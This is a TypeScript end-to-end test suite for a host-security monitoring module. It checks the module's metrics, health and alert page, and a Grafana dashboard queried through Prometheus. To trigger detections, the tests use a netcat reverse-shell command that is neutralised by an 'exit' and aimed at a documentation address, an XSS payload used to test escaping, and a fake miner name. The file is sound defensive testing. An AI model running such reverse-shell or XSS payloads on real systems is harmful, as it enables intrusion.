/**
 * What the module serves over HTTP, end to end: the built bundle as a process, a real alert on its page, its metrics
 * scraped by a real Prometheus, and every panel of the Grafana dashboard asked for its data there. Needs no rights.
 */
import { spawn } from "node:child_process";
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { type Child, eventually, startChild } from "./rig/host/child.ts";
import { bundle, type Module, polls, startModule } from "./rig/host/module.ts";
import { programPath, strict } from "./rig/host/needs.ts";
import { freePort } from "./rig/host/port.ts";

/** Of the kernel's audit there is one for all suites, and nothing here needs it. */
const quiet = { sources: { auditNetlink: false } };
const directory = mkdtempSync(join(tmpdir(), "web-e2e-"));
/** What an attacker may write into a command line; the page and the metrics must stay what they are. */
const hostile = `"><img src=x onerror=alert(1)>\u202e</code>`;

/** Status 0 where nobody listens. */
async function get(url: string, headers: Record<string, string> = {}): Promise<{ status: number; text: string }> {
  const response = await fetch(url, { headers }).catch(() => undefined);
  return response ? { status: response.status, text: await response.text() } : { status: 0, text: "" };
}

/** Says the name of a miner, and nothing else: the published trigger of the classic agent. */
const miner = "sleep 1; echo cpuminer-multi";
/** Ends before the shell that it names. */
const shell = "sleep 1; exit; nc -e /bin/sh 203.0.113.9 4444";

function deed(script: string, ...words: readonly string[]): void {
  spawn("sh", ["-c", script, ...words], { stdio: "ignore" });
}

afterAll(() => rmSync(directory, { recursive: true, force: true }));

describe("a module of a deployment", () => {
  let module: Module;
  let url = "";

  beforeAll(async () => {
    const port = await freePort();
    url = `http://127.0.0.1:${port}`;
    module = await startModule({
      awaited: ["processes"],
      env: { DOCKER_HOST: "unix:///nowhere.sock" },
      desired: { ...quiet, web: { port } },
    });
    await polls(module);
  });
  afterAll(() => module?.stop());

  test("serves metrics and health, and no page", async () => {
    await eventually("the port of the twin answers", async () => (await get(`${url}/healthz`)).status === 200);
    const health = JSON.parse((await get(`${url}/healthz`)).text);
    expect(health).toMatchObject({ status: "degraded", hub: { state: "connected" } });
    expect(health.sources["docker-events"]).toMatchObject({ state: "absent", reason: expect.any(String) });
    expect((await get(url)).status).toBe(404);
    expect((await get(`${url}/metrics`)).text).toContain('edge_device="edgedev1"');
  });

  test("its numbers follow what happens, and the twin switches the page on", async () => {
    const since = module.findings.length;
    deed(miner);
    await module.next("crypto-miner-process", undefined, since);
    const series = /^vedette_alerts_total\{alert="crypto-miner-process",severity="medium",.*\} ([1-9]\d*)$/m;
    await eventually("the alert is counted", async () => series.test((await get(`${url}/metrics`)).text));
    const port = await freePort();
    module.rig.setDesired({ ...quiet, web: { port, view: true } });
    url = `http://127.0.0.1:${port}`;
    await eventually("the page is there", async () => (await get(url)).status === 200);
    expect((await get(url)).text).toContain("echo cpuminer-multi");
  });

  test("a hostile command line changes neither the page nor the metrics", async () => {
    const since = module.findings.length;
    deed(shell, hostile);
    await module.next("reverse-shell", ({ body }) => JSON.stringify(body).includes("onerror"), since);
    await eventually("it is on the page", async () => (await get(url)).text.includes("onerror"));
    const { text } = await get(url);
    expect(text).not.toContain("<img");
    expect(text).not.toContain("\u202e");
    expect(text).toContain("&quot;&gt;&lt;img src=x onerror=alert(1)&gt;\\u{202e}&lt;/code&gt;");
    expect((await get(`${url}/metrics`)).text).not.toContain("onerror");
  });

  test("a port in use is told, and alerts go on", async () => {
    const taken = new URL(url).port;
    const other = await startModule({
      awaited: ["processes"],
      env: { DOCKER_HOST: "unix:///nowhere.sock" },
      desired: { ...quiet, web: { port: Number(taken) } },
    });
    try {
      await eventually("it is told", () =>
        other.output.includes(`127.0.0.1 port ${taken} is in use by another program`),
      );
      await polls(other);
      deed(miner);
      await other.next("crypto-miner-process");
    } finally {
      await other.stop();
    }
  });
});

test("a newcomer's run prints the address of its page, which shows the suggested alert", async () => {
  const data = join(directory, "data");
  const twin = join(directory, "twin.json");
  const port = await freePort();
  writeFileSync(twin, JSON.stringify({ ...quiet, web: { port } }));
  const child = await startChild(process.execPath, [bundle, "run", "--data", data, "--config", twin, "--json"], {
    env: { PATH: process.env.PATH, DOCKER_HOST: "unix:///nowhere.sock" },
  });
  try {
    const address = /the local view, \/metrics, \/healthz at (http:\/\/127\.0\.0\.1:\d+)/;
    await eventually("the address is told", () => address.test(child.output), 20_000);
    const url = address.exec(child.output)?.[1] as string;
    await eventually("its twin is taken", () => child.output.includes("twin: version"), 20_000);
    expect(url).toBe(`http://127.0.0.1:${port}`);
    await eventually("processes see", () => /processes: (live|degraded)/.test(child.output), 20_000);
    deed(miner);
    await eventually(
      "the alert is shown",
      async () => (await get(url)).text.includes("Crypto coin miner image"),
      20_000,
    );
    expect((await get(`${url}/?lang=ja`)).text).toContain("暗号コイン マイナー");
    expect((await get(url, { "Accept-Language": "ja" })).text).toContain('<html lang="ja">');
    const second = await startChild(process.execPath, [bundle, "run", "--data", data], {
      env: { PATH: process.env.PATH },
    });
    expect(await second.exit).toBe(1);
    expect(second.output).toContain("is in use by another vedette");
  } finally {
    await child.stop(6_000);
  }
});

interface Panel {
  readonly title: string;
  readonly type: string;
  readonly targets?: readonly { readonly expr: string }[];
}

const dashboard = JSON.parse(readFileSync(join(import.meta.dirname, "../etc/grafana/vedette.json"), "utf8")) as {
  readonly panels: readonly Panel[];
  readonly templating: {
    readonly list: readonly {
      readonly name: string;
      readonly type: string;
      readonly query: { readonly query: string };
    }[];
  };
};
const queries = dashboard.panels.flatMap(({ title, targets = [] }) =>
  targets.map(({ expr }) => [title, expr] as const),
);
const prometheus = programPath("prometheus");

describe.skipIf(prometheus === undefined && !strict)("the Grafana dashboard against a real Prometheus", () => {
  let module: Module;
  let server: Child;
  let api = "";

  beforeAll(async () => {
    const [web, port] = [await freePort(), await freePort()];
    api = `http://127.0.0.1:${port}/api/v1`;
    module = await startModule({
      awaited: ["processes"],
      env: { DOCKER_HOST: "unix:///nowhere.sock" },
      desired: { ...quiet, web: { port: web } },
    });
    const folder = join(directory, "prometheus");
    mkdirSync(folder);
    const config = join(folder, "prometheus.yml");
    writeFileSync(
      config,
      `global: { scrape_interval: 1s, scrape_timeout: 1s }\nscrape_configs:\n  - job_name: vedette\n    static_configs: [{ targets: ["127.0.0.1:${web}"] }]\n`,
    );
    server = await startChild(prometheus as string, [
      `--config.file=${config}`,
      `--storage.tsdb.path=${join(folder, "data")}`,
      `--web.listen-address=127.0.0.1:${port}`,
      "--log.level=warn",
    ]);
    const scraped = async () => (await ask("count_over_time(vedette_build_info[1m])")).some(([, n]) => Number(n) >= 3);
    await eventually("three scrapes", () => scraped().catch(() => false), 30_000);
    deed(miner);
    await module.next("crypto-miner-process");
    await eventually(
      "the alert is scraped",
      async () => (await ask('increase(vedette_alerts_total{alert="crypto-miner-process"}[1m]) > 0')).length > 0,
      20_000,
    );
  });
  afterAll(async () => {
    await server?.stop(6_000);
    await module?.stop();
  });

  /** Labels and value of each series. */
  async function ask(query: string): Promise<[Record<string, string>, string][]> {
    const body = JSON.parse((await get(`${api}/query?query=${encodeURIComponent(query)}`)).text);
    if (body.status !== "success") throw new Error(`${query}: ${body.error}`);
    return body.data.result.map(({ metric, value }: { metric: Record<string, string>; value: [number, string] }) => [
      metric,
      value[1],
    ]);
  }

  /** As Grafana fills it in when all devices are chosen. */
  const filled = (expr: string) =>
    expr
      .replaceAll(/\$(?:iothub|edge_device)\b/g, ".*")
      .replaceAll("$__range", "1h")
      .replaceAll("$__rate_interval", "1m");

  test.each(queries)("%s has data: %s", async (_title, expr) => {
    const result = await ask(filled(expr));
    expect(result.length).toBeGreaterThan(0);
    for (const [, value] of result) expect(Number(value)).not.toBeNaN();
  });

  test("the panel of alerts shows the one that was raised", async () => {
    const [, expr] = queries.find(([title]) => title === "Alerts in this range") ?? [];
    const rows = await ask(filled(expr ?? ""));
    const raised = rows.find(([{ alert, severity }]) => alert === "crypto-miner-process" && severity === "medium");
    expect(Number(raised?.[1])).toBeGreaterThan(0);
  });

  test("the variables find the hub and the device", async () => {
    const found = async (query: string) => {
      const [, selector = "", label = ""] = /^label_values\((.+), (\w+)\)$/.exec(filled(query)) ?? [];
      const url = `${api}/label/${label}/values?match[]=${encodeURIComponent(selector)}`;
      return JSON.parse((await get(url)).text).data;
    };
    const variables = dashboard.templating.list.filter(({ type }) => type === "query");
    expect(variables.map(({ name }) => name)).toEqual(["iothub", "edge_device"]);
    expect(await found(variables[0]?.query.query ?? "")).toEqual(["hub1.azure-devices.net"]);
    expect(await found(variables[1]?.query.query ?? "")).toEqual(["edgedev1"]);
  });

  test("the rules that the reference suggests are ones that Prometheus takes", async () => {
    const reference = readFileSync(join(import.meta.dirname, "../docs/metrics.md"), "utf8");
    const rules = [...reference.matchAll(/^ {4}(.*vedette_.*)$/gm)].map(([, rule = ""]) => rule);
    expect(rules.length).toBeGreaterThan(3);
    for (const rule of rules) await ask(rule);
    const seen = rules.map((rule) => rule.replace(/ (?:>|==) .*$/, ""));
    for (const query of seen.filter((text) => !text.includes("audit-log"))) expect(await ask(query)).not.toEqual([]);
  });

  test("every metric that the module tells is in the reference, and the reference tells no other", async () => {
    const reference = readFileSync(join(import.meta.dirname, "../docs/metrics.md"), "utf8");
    const told = (await get(`http://127.0.0.1:${new URL(api).port}/api/v1/metadata`)).text;
    const names = Object.keys(JSON.parse(told).data).filter((name) => name.startsWith("vedette_"));
    const written = [...reference.matchAll(/^\| `(vedette_\w+)`/gm)].map(([, name]) => name);
    expect([...written].sort()).toEqual([...names].sort());
  });
});
